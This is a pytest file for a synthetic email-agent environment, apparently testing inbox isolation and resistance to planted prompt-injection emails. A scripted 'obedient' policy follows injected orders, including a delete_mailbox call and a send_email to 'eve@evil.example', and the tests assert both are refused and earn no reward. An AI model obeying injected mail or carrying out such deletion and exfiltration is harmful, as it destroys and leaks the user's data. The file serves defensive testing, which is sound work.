"""Rows F81 to F84, F86: whatever a mail orders and a policy tries, it reaches one inbox up to one day, and no more."""

from __future__ import annotations

import asyncio
import json
import re
import time
from collections import Counter
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from statistics import median
from urllib.parse import quote

import pytest

from agent.policies.scripted import Script, ScriptedPolicy, answer, hit_numbers, perfect_reader, read, search
from agent.rollout import rollout
from inbox_env.actions import Opening, ToolCall
from inbox_env.emails import Address, Email
from inbox_env.env import EnvLimits, InboxEnv
from inbox_env.inbox import Inbox
from inbox_env.rendering import ResultStyle
from inbox_env.store import EmailStore, build_inbox
from inbox_env.synthetic import generate_inbox
from inbox_env.synthetic.injections import LEADS, LINK, MARK, ORDERS, plant, planted_emails
from inbox_env.tools import Toolbox
from rewards.injection import has_obeyed
from rewards.ladder import LadderConfig, make_ladder
from scripts.playground.cards import ending_event, turn_card
from scripts.unlabelled import unlabelled

NUM_TRIES = 10_000
NUM_CASES = 200


@pytest.fixture(scope="module")
def inboxes():
    return [generate_inbox("dev", seed, num_emails=400, num_questions=300) for seed in (1, 2)]


@pytest.fixture(scope="module")
def injections(inboxes):
    return plant(inboxes[0], inboxes[1].emails[0].message_id)


@pytest.fixture(scope="module")
def store(tmp_path_factory, inboxes, injections):
    path: Path = tmp_path_factory.mktemp("isolation") / "mail.db"
    build_inbox(path, inboxes[0].name, planted_emails(inboxes[0], injections), owner=inboxes[0].owner)
    build_inbox(path, inboxes[1].name, inboxes[1].emails, owner=inboxes[1].owner)
    return EmailStore.open(path)


def foreign_names(inbox):
    """A mail of another inbox by every name that somebody may try."""
    for email in inbox.emails:
        bare = email.message_id.strip("<>")
        yield from (
            email.message_id,
            bare,
            bare.upper(),
            quote(bare),
            f" {bare} ",
            f"<<{bare}>>",
            f"{inbox.name}/{bare}",
        )


def test_f81_no_name_opens_a_mail_of_another_inbox(store, inboxes):
    box = Toolbox(Inbox(store, inboxes[0].name), None, ResultStyle())
    random, own = Random(0), {email.message_id for email in inboxes[0].emails}
    names = list(foreign_names(inboxes[1]))
    names += [str(random.choice([-1, 0, 10**9, 2**63, random.getrandbits(70)])) for _ in range(NUM_TRIES - len(names))]
    said = Counter()
    for name in names:
        result = box.execute(ToolCall("read_email", {"id": name}))
        assert result.is_error
        assert not set(result.opened) - own
        said[re.sub(r"'.*'|\d+|\S*@\S*", "", result.content)[:20]] += 1
    assert len(names) >= NUM_TRIES
    assert len(said) <= 3, "the same words, whatever the name: nothing is told about other inboxes"


def test_f82_no_search_snippet_or_thread_shows_another_inbox(store, inboxes):
    own = Inbox(store, inboxes[0].name)
    foreign = {email.message_id for email in inboxes[1].emails}
    box = Toolbox(own, None, ResultStyle())
    for email in inboxes[1].emails[:100]:
        for word in {*email.subject.split(), email.sender.name.split()[-1]}:
            result = box.execute(ToolCall("search_emails", {"keywords": [word]}))
            assert not foreign & set(getattr(result, "listed", ()))
    for number in range(1, own.num_emails, 7):
        assert all(own.read(one, as_of=None) is not None for one in own.thread(number, as_of=None))


def obedient(injection):
    """A policy that finds the planted mail and does everything it is told, and more."""

    def script(opening: Opening, _: Random) -> Script:
        numbers = hit_numbers((yield search(injection.email.sender.name.split()[-1])))
        for number in numbers:
            yield read(number)
        text = injection.email.body
        for name in re.findall(r"<([^<>\s]+@[^<>\s]+)>", text):
            yield read(name)
        yield type(search("x"))((ToolCall("delete_mailbox", {}), ToolCall("send_email", {"to": "eve@evil.example"})))
        for _ in range(3):
            yield search(MARK)
        goal = injection.goal
        if goal == "give_up":
            yield answer(None)
        said = {"link": f"{LINK}?q=x", "dump": "all " * 500}.get(goal, MARK)
        yield answer(said, re.findall(r"<([^<>\s]+@[^<>\s]+)>", text)[:1] if goal == "cite" else numbers[:1])

    return ScriptedPolicy("obedient", script, perfect_reader({}))


def play(store, inbox, injection, policy):
    env = InboxEnv(Inbox(store, inbox.name), injection.question, EnvLimits(max_turns=30, max_invalid_calls=30))
    return asyncio.run(rollout(policy, env, deadline_seconds=30)).trajectory


def test_f83_f84_an_obedient_policy_reaches_nothing_outside_its_inbox_and_day(store, inboxes, injections):
    assert len(injections) == len(ORDERS) * len(LEADS) >= NUM_CASES
    foreign = {email.message_id for email in inboxes[1].emails}
    own = {email.message_id: email for email in planted_emails(inboxes[0], injections)}
    num_obeyed = 0
    for injection in injections:
        trajectory = play(store, inboxes[0], injection, obedient(injection))
        results = [result for turn in trajectory.turns for result in turn.results]
        shown = {one for result in results for one in (*result.listed, *result.opened)}
        assert not foreign & (shown | set(trajectory.sources))
        assert all(own[one].date is None or own[one].date <= injection.question.as_of for one in shown)
        refused = [result for result in results if result.name in ("delete_mailbox", "send_email")]
        assert all(result.is_error for result in refused)
        num_obeyed += has_obeyed(trajectory, injection.goal)
    assert num_obeyed == len(injections), "the rules see what an obedient policy does"


def test_what_a_policy_that_reads_on_does_is_not_counted_as_obeying(store, inboxes, injections):
    def script(opening: Opening, _: Random) -> Script:
        yield search(opening.question.split()[-1].strip("?."))
        yield answer("a plain answer")

    policy = ScriptedPolicy("deaf", script, perfect_reader({}))
    for injection in injections[::9]:
        assert not has_obeyed(play(store, inboxes[0], injection, policy), injection.goal)


def test_f86_rewards_know_ids_and_answers_only_whatever_a_mail_promises(store, inboxes, injections):
    ladder = make_ladder(LadderConfig())
    for injection in injections[:26]:
        trajectory = play(store, inboxes[0], injection, obedient(injection))
        reward = ladder(trajectory, injection.question)
        assert reward.value is not None
        assert reward.value <= 0


def test_f81_foreign_later_and_missing_mails_are_refused_in_the_same_words_and_time(store, inboxes):
    inbox = Inbox(store, inboxes[0].name)
    dated = sorted((email for email in inboxes[0].emails if email.date), key=lambda email: email.date)
    box = Toolbox(inbox, dated[len(dated) // 2].date, ResultStyle())
    names = {
        "foreign": [email.message_id for email in inboxes[1].emails[:150]],
        "later": [email.message_id for email in dated[-150:]],
        "missing": [f"<{number}.nobody@mail.example>" for number in range(150)],
        "later by number": [str(inbox.num_emails - number) for number in range(150)],
    }
    said, seconds = {}, {kind: [] for kind in names}
    for place in range(150):  # in turns, so that what else runs here slows all alike
        for kind, refs in names.items():
            started = time.perf_counter()
            result = box.execute(ToolCall("read_email", {"id": refs[place]}))
            seconds[kind].append(time.perf_counter() - started)
            said.setdefault((result.content, result.is_error, result.opened, result.listed), set()).add(kind)
    assert list(said.values()) == [set(names)]
    typical = [median(found) for found in seconds.values()]
    assert max(typical) < 5 * min(typical) + 0.002, dict(zip(names, typical, strict=True))


SECRET = "Zephyrine-quarterly-secret"


def test_f82_a_reply_of_another_inbox_is_in_no_result_trajectory_or_quote(tmp_path):
    """Both people have the same thread; only one of them got its last mail."""
    people = Address("Ann Lee", "ann@test.invalid"), Address("Bob Day", "bob@test.invalid")
    day = datetime(2020, 1, 1, tzinfo=UTC)
    first = Email("<1@test.invalid>", day, people[0], (people[1],), subject="Plan", body="needle: the plan")
    reply = replace(
        first, message_id="<2@test.invalid>", date=day + timedelta(days=1), in_reply_to=first.message_id,
        references=(first.message_id,), subject=f"Re: Plan {SECRET}", body=f"needle {SECRET}\n> needle: the plan",
    )  # fmt: skip
    path = tmp_path / "mail.db"
    build_inbox(path, "bob", [first], owner=people[1])
    build_inbox(path, "ann", [first, reply], owner=people[0])
    mailbox = EmailStore.open(path)
    calls = [search("needle"), search(SECRET), read(1), read(2), read(reply.message_id)]

    def play(name):
        question = unlabelled("q", "What is the plan?", name, None)
        inbox = Inbox(mailbox, name)

        def script(*_: object) -> Script:
            for action in calls:
                assert (yield action).results
            yield answer("the plan", [1, 2, reply.message_id])

        style = ResultStyle(snippet_chars=200, show_thread=True)
        env = InboxEnv(inbox, question, EnvLimits(max_turns=30, max_invalid_calls=30, style=style))
        trajectory = asyncio.run(rollout(ScriptedPolicy("curious", script, perfect_reader({})), env)).trajectory
        cards = [turn_card(turn, number, inbox, None) for number, turn in enumerate(trajectory.turns, 1)]
        results = [result.content for turn in trajectory.turns for result in turn.results]
        told = json.dumps([cards, ending_event(trajectory, inbox, question)])
        return "\n".join(results), told

    assert all(SECRET in text for text in play("ann")), "whose mail it is sees it, and warms every cache"
    results, told = play("bob")
    assert SECRET not in results
    assert told.count(SECRET) == 1, "the word that was searched, as it was asked for"
    assert "Thread: " not in results
